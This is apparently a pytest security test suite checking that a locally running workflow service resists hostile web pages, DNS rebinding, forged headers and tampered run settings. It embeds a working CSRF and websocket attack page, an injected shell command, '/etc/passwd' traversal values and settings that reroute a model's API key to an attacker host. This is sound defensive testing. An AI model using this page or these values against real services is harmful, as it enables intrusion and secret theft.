"""Web pages against a running `nightschool up`: nothing runs, nothing leaks. Chromium opens what an attacker would serve.

The attacker here knows more than one would: the server's port, the deployments' ids, the folder of the workspace.
"""

import base64
import contextlib
import http.client
import json
import stat
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from email.message import Message
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from string import Template
from typing import Any
from urllib.parse import urlsplit
from uuid import uuid4

import pytest
import yaml

from flows.service.deployed import check_settings
from flows.service.prefect_server import CLOSED, login_file, read_login
from storage.errors import RecipeError
from storage.workspace import Workspace
from tests.browser import visiting
from tests.flows.service.running import Up, serving_up, wait_for

pytestmark = pytest.mark.slow

NEVER = "0 0 1 1 *"
"""A schedule that does not come due while the tests run."""
SECRET = "sk-nobody-may-see-this"
UI_SETTINGS = frozenset(
    {"api_url", "auth", "csrf_enabled", "flags", "default_ui", "available_uis", "v1_base_url", "v2_base_url"}
)
"""What Prefect's pages learn before they ask for the login."""

PAGE = Template("""<!doctype html><meta charset="utf-8"><title>a page</title><form id="f" method="post" target="i"
 enctype="text/plain" action="$api/deployments/$deployment/create_flow_run"><input name='$form' value='"}'></form>
<iframe name="i"></iframe><script>
const api = "$api", seen = [];
const body = JSON.stringify($run);
async function attempt(name, make) {
  try { const reply = await make(); seen.push([name, reply.status ?? 0, (await reply.text?.() ?? "").slice(0, 300)]); }
  catch (error) { seen.push([name, "refused", String(error)]); }
}
function socket(name, path, protocol) {
  return new Promise(done => {
    const ws = new WebSocket(api.replace("http", "ws") + path, protocol ? [protocol] : []);
    const end = what => { seen.push([name, what, ""]); done(); };
    ws.onopen = () => { ws.send(JSON.stringify($event)); setTimeout(() => end("open"), 500); };
    ws.onerror = () => end("refused"); setTimeout(() => end("silent"), 5000);
  });
}
(async () => {
  const create = `$${api}/deployments/$deployment/create_flow_run`;
  for (const type of ["application/json", "text/plain", "application/x-www-form-urlencoded"])
    for (const mode of ["cors", "no-cors"])
      for (const credentials of ["omit", "include"])
        await attempt(`create $${type} $${mode} $${credentials}`,
          () => fetch(create, {method: "POST", mode, credentials, headers: {"Content-Type": type}, body}));
  for (const path of ["/flow_runs/filter", "/deployments/filter", "/block_documents/filter", "/logs/filter", "/admin/settings"])
    await attempt(`read $${path}`, () => fetch(api + path, path.startsWith("/admin") ? {} : {method: "POST", body: "{}",
      headers: {"Content-Type": "application/json"}}));
  await attempt("event", () => fetch(api + "/events", {method: "POST", mode: "no-cors", body: JSON.stringify([$event])}));
  await socket("socket in", "/events/in"); await socket("socket in, prefect", "/events/in", "prefect");
  await socket("socket logs", "/logs/out");
  document.getElementById("f").submit();
  await new Promise(done => setTimeout(done, 1500));
  navigator.sendBeacon(create, body);
  await new Promise(done => setTimeout(done, 500));
  await fetch("$home/seen", {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
})();
</script>""")


@dataclass
class Attacker:
    """A web server of the attacker's: serves the page, keeps whatever is sent to it."""

    page: str = ""
    gets: list[str] = field(default_factory=list)
    requests: list[tuple[str, dict[str, str], str]] = field(default_factory=list)
    port: int = 0

    def report(self) -> list[list[Any]]:
        sent = [body for path, _, body in self.requests if path == "/seen"]
        return json.loads(sent[0]) if sent else []


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    ours = Attacker()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            ours.gets.append(self.path)
            self._answer(ours.page)

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode(errors="replace")
            ours.requests.append((self.path, dict(self.headers), body))
            self._answer("{}")

        def _answer(self, text: str) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(text.encode())

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    ours.port = server.server_address[1]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield ours
    finally:
        server.shutdown()
        server.server_close()


def now() -> str:
    """The server counts no event that is half a year old."""
    return datetime.now(UTC).isoformat()


def hostile(up: Up, attacker: Attacker, api: str, marker: Path) -> str:
    """The page: every way of asking that a browser has."""
    run = {
        "parameters": {
            "settings": [
                f"models.teacher.endpoint=http://127.0.0.1:{attacker.port}", "models.teacher.engine=vllm",
                "models.teacher.api_key_env=NIGHTSCHOOL_TEST_SECRET", "prompts.solve=/etc/passwd",
            ]
        },
        "job_variables": {"command": f"touch {marker}"},
        "state": {"type": "SCHEDULED"},
    }  # fmt: skip
    event = {
        "occurred": now(), "event": "nightschool.release.created", "id": "0" * 8 + "-0000-4000-8000-" + "1" * 12,
        "resource": {"prefect.resource.id": "lake.dataset.attack"}, "payload": {},
    }  # fmt: skip
    return PAGE.substitute(
        api=api, deployment=up.deployment("train"), run=json.dumps(run), event=json.dumps(event),
        home=f"http://127.0.0.1:{attacker.port}", form=json.dumps(run)[:-1] + ', "x": "',
    )  # fmt: skip


@pytest.fixture(scope="module")
def up(tmp_path_factory) -> Iterator[Up]:
    with serving_up(tmp_path_factory.mktemp("up"), NEVER, NIGHTSCHOOL_TEST_SECRET=SECRET) as service:
        yield service


@pytest.fixture
def quiet(up) -> Iterator[dict[str, int]]:
    """The service with its schedule paused: a run that appears now was made by the attack."""
    up.ask(f"deployments/{up.deployment('nightly')}/pause_deployment")
    wait_for(lambda: all(run["state_type"] not in ("PENDING", "RUNNING") for run in up.ask("flow_runs/filter")))
    yield {"runs": count(up), "events": attack_events(up)}


def count(up: Up) -> int:
    return int(up.ask("flow_runs/count", {"flow_runs": {"state": {"type": {"not_any_": ["SCHEDULED"]}}}})) + sum(
        run["auto_scheduled"] is False for run in up.ask("flow_runs/filter")
    )


def attack_events(up: Up) -> int:
    events = up.ask("events/filter", {"filter": {"resource": {"id": ["lake.dataset.attack"]}}})
    return int(events["total"])


@pytest.mark.parametrize("how", ["another origin", "a name that leads here"])
def test_a_web_page_starts_nothing_and_learns_nothing(up, quiet, attacker, tmp_path, how):
    url = urlsplit(up.status()["url"])
    marker = tmp_path / "ran"
    flags: tuple[str, ...] = ()
    api = f"http://127.0.0.1:{url.port}/api"
    if how == "a name that leads here":  # DNS rebinding: to the browser, page and server are one origin
        flags = ("--host-resolver-rules=MAP evil.example 127.0.0.1",)
        api = f"http://evil.example:{url.port}/api"
    attacker.page = hostile(up, attacker, api, marker)
    with visiting(f"http://127.0.0.1:{attacker.port}/", *flags):
        report = wait_for(attacker.report, 90)
    assert len(report) >= 20, "the page tried everything"
    for name, outcome, text in report:
        assert outcome in ("refused", 0, "silent"), (name, outcome, text)  # 0: an answer that the page may not look at
        assert SECRET not in text and "nightly" not in text
    time.sleep(8)  # a worker asks for work every second
    assert not marker.exists()
    ours = {
        "occurred": now(),
        "event": "of its owner",
        "resource": {"prefect.resource.id": "lake.dataset.attack"},
        "payload": {},
    }
    up.ask("events", [{**ours, "id": str(uuid4())}])
    wait_for(lambda: attack_events(up) > quiet["events"])  # one that is taken is counted, and those before it
    assert {"runs": count(up), "events": attack_events(up) - 1} == quiet
    assert [path for path, _, _ in attacker.requests if path != "/seen"] == [], "no model call reached the attacker"


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"Host": "evil.example"},
        {"Host": "evil.example", "Authorization": "right"},
        {"Host": "127.0.0.1.evil.example", "Authorization": "right"},
        {"Origin": "http://evil.example", "Authorization": "right"},
        {"Origin": "null", "Authorization": "right"},
        {"Origin": "http://localhost", "Authorization": "right"},
        {"Origin": "https://{host}", "Authorization": "right"},
        {"Origin": "chrome-extension://{host}", "Authorization": "right"},
        {"Authorization": "wrong"},
        {"Authorization": "no ASCII"},
        {"Authorization": "Bearer x"},
    ],
    ids=str,
)
@pytest.mark.parametrize("path", ["/api/deployments/filter", "/api/flow_runs/filter", "/api/health/../admin/settings"])
def test_a_raw_client_needs_the_login_this_machines_name_and_no_foreign_page(up, headers, path):
    login = read_login(Workspace(up.cli.workspace))
    assert login is not None
    pairs = {"right": login, "wrong": "nightschool:guess", "no ASCII": "nightschool:gues\u0161"}
    url = urlsplit(up.url())
    given = {name: value.format(host=url.netloc) for name, value in headers.items()}
    if given.get("Authorization") in pairs:
        given["Authorization"] = "Basic " + base64.b64encode(pairs[given["Authorization"]].encode()).decode()
    status, text, answered = asked(up, "POST", path, **given)
    assert status in (400, 401, 403), (status, text[:200])
    assert "nightly" not in text and login not in text
    assert answered.get("Access-Control-Allow-Origin") in (None, f"http://{url.netloc}")


def asked(up: Up, method: str, path: str, **headers: str) -> tuple[int, str, Message]:
    """Status, text and headers of what the server answers to a client that sends these headers and no others."""
    port = urlsplit(up.url()).port
    with contextlib.closing(http.client.HTTPConnection("127.0.0.1", port, timeout=20)) as connection:
        connection.request(method, path, body="{}", headers={"Content-Type": "application/json", **headers})
        reply = connection.getresponse()
        return reply.status, reply.read().decode(), reply.headers


@pytest.mark.parametrize("path", ["/api/health", "/api/ready", "/ui-settings"])
def test_without_the_login_it_says_that_it_is_there(up, path):
    status, text, _ = asked(up, "GET", path)
    assert status == 200
    assert text in ("true", '{"message":"OK"}') or json.loads(text).keys() <= UI_SETTINGS, text[:300]


@pytest.mark.parametrize("path", CLOSED)
def test_and_no_page_of_fastapi(up, path):
    assert asked(up, "GET", path)[0] == asked(up, "GET", path + "/")[0] == 404
    assert asked(up, "GET", "/api" + path)[0] == 401


def test_the_login_is_readable_by_its_owner_alone(up):
    workspace = Workspace(up.cli.workspace)
    assert stat.S_IMODE(login_file(workspace).stat().st_mode) == 0o600
    login = str(read_login(workspace))
    assert len(login) > 40
    for file in up.cli.folder.rglob("*"):
        if file.is_file() and file != login_file(workspace) and file.stat().st_size < 50_000_000:
            assert login.partition(":")[2].encode() not in file.read_bytes(), f"{file} holds the login"
    output = up.cli("up", "--status", "--json") + up.cli("doctor", "--json")
    assert login.partition(":")[2] not in output


@pytest.mark.parametrize(
    ("setting", "key"),
    [
        ("models.teacher.api_key_env=NIGHTSCHOOL_TEST_SECRET", "models.teacher.api_key_env"),
        ("models.teacher.endpoint=http://127.0.0.1:9", "models.teacher.endpoint"),
        ('models.teacher={"engine": "vllm", "endpoint": "http://127.0.0.1:9", "name": "x", "revision": "1"}', "models.teacher"),
        ("models.other.engine=solver", "models.other.engine"),
        ("prompts.solve=/etc/passwd", "prompts.solve"),
        ("methods.0.prompts.solve=/etc/passwd", "methods.0.prompts.solve"),
        ("prompts.solve=../../etc/passwd", "prompts.solve"),
        ("prompts.solve=${x}/passwd", "prompts.solve"),
        ("train.plan.0.sft.rollout_endpoint=http://127.0.0.1:9", "train.plan.0.sft.rollout_endpoint"),
        ("train.plan.sft.accelerate=/tmp/mine.yaml", "train.plan.0.sft.accelerate"),
        ("train.plan.sft.from=/tmp/model", "train.plan.0.sft.from"),
        ('train.plan.sft.corpus=[{"path": "/etc/passwd"}]', "train.plan.0.sft.corpus"),
    ],
)  # fmt: skip
def test_a_deployments_settings_change_no_model_key_command_or_file(up, tmp_path, setting, key):
    """Refused when it is deployed, and by the flow itself when a run is started with it."""
    message = up.cli("up", up.recipe, "--set", setting, "--port", "0", code=1)
    assert key in message and ("may not change it" in message or "runs already" in message)
    with pytest.raises(RecipeError, match="may not change it"):
        check_settings(up.recipe, [setting])


def test_a_run_with_such_settings_fails_before_it_reads_or_asks_anything(up, quiet, attacker):
    """With the login, as a colleague who may start runs: the flow refuses, and no call leaves."""
    settings = [f"models.teacher.endpoint=http://127.0.0.1:{attacker.port}", "models.teacher.api_key_env=HOME"]
    run = wait_for(ended(up, started(up, "train", settings=settings)))
    assert run["state_type"] == "FAILED" and "may not change it" in run["state"]["message"]
    assert attacker.requests == attacker.gets == []


def test_a_run_with_another_recipe_workspace_or_cluster_fails_before_it_reads_asks_or_writes_anything(
    up, quiet, attacker, tmp_path
):
    """With the login, as a colleague who may start runs."""
    content = yaml.safe_load(up.recipe.read_text())
    server = {"engine": "vllm", "endpoint": f"http://127.0.0.1:{attacker.port}", "name": "x", "revision": "1"}
    content["models"] = {role: {**server, "api_key_env": "NIGHTSCHOOL_TEST_SECRET"} for role in content["models"]}
    other = tmp_path / "other.yaml"
    other.write_text(yaml.safe_dump(content))
    given = {"recipe": str(other), "workspace": str(tmp_path / "w"), "ray": f"ray://127.0.0.1:{attacker.port}"}
    tries = [(flow, name) for flow in ("nightly", "train", "maintain") for name in ("recipe", "workspace")]
    tries.append(("nightly", "ray"))
    runs = {(flow, name): started(up, flow, **{name: given[name]}) for flow, name in tries}
    for (_, name), run_id in runs.items():
        run = wait_for(ended(up, run_id))
        assert run["state_type"] == "FAILED", run["state"]
        assert f"{name} {given[name]!r}: a run of a deployment may not change it" in run["state"]["message"]
    assert attacker.requests == attacker.gets == []
    assert list(tmp_path.iterdir()) == [other]


def test_a_run_with_its_deployments_own_parameters_runs(up, quiet):
    own = {"recipe": str(up.recipe.resolve()), "workspace": str(up.cli.workspace), "settings": ["problems.limit=2"]}
    assert wait_for(ended(up, started(up, "maintain", **own)))["state_type"] == "COMPLETED"


def started(up: Up, flow: str, **parameters: Any) -> str:
    """Start a run of a deployment, with job variables that choose another program, and return its id."""
    body = {
        "parameters": parameters, "state": {"type": "SCHEDULED"},
        "job_variables": {"command": "touch ran", "env": {"X": "1"}, "working_dir": "/tmp"},
    }  # fmt: skip
    return str(up.ask(f"deployments/{up.deployment(flow)}/create_flow_run", body)["id"])


def ended(up: Up, run_id: str) -> Callable[[], dict[str, Any] | None]:
    """Return a probe that gives a run once it has ended."""

    def probe() -> dict[str, Any] | None:
        run = up.ask(f"flow_runs/{run_id}", method="GET")
        return run if run["state_type"] in ("FAILED", "COMPLETED", "CRASHED", "CANCELLED") else None

    return probe


def test_numbers_may_be_given_and_the_recipes_own_folder_too(tmp_path):
    recipe = tmp_path / "r.yaml"
    content = {
        "name": "x", "problems": {"sources": [{"name": "a", "kind": "arithmetic"}]}, "models": {"teacher": {"engine": "solver"}},
        "prompts": {}, "methods": [{"method": "cot"}],
    }  # fmt: skip
    recipe.write_text(yaml.safe_dump(content))
    check_settings(recipe, ["problems.limit=5", "models.teacher.concurrency=4", "prompts.solve=mine/solve.jinja"])
    check_settings(recipe, ["methods.cot.prompts.solve=mine/solve.jinja"])
